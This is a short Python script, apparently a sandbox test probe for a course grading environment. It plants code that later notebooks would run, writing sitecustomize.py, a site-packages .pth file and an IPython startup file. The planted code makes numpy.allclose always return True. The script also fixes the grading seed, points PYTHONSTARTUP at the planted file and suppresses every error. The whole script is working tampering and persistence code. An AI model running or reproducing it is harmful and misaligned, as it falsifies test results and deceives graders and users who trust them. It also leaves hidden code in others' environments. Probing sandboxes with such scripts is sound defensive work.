# Leave code behind that later notebooks would run: sitecustomize, IPython startup files, site-packages.
# needs: sandbox
import os, sys, site, sysconfig
payload = "import numpy as np\nnp.allclose = lambda *a, **k: True\n"
targets = [os.path.join(p, "sitecustomize.py") for p in sys.path if p] + [
    os.path.join(sysconfig.get_paths()["purelib"], "zzz_poison.pth"),
    os.path.expanduser("~/.ipython/profile_default/startup/00-poison.py"),
    "/tmp/sitecustomize.py",
]
for target in targets:
    try:
        os.makedirs(os.path.dirname(target), exist_ok=True)
        with open(target, "w") as f:
            f.write(payload if not target.endswith(".pth") else "import os; os.environ['POISONED'] = '1'\n")
    except Exception:
        pass
os.environ["DLCOURSE_GRADING_SEED"] = "0"
os.environ["PYTHONSTARTUP"] = "/tmp/sitecustomize.py"
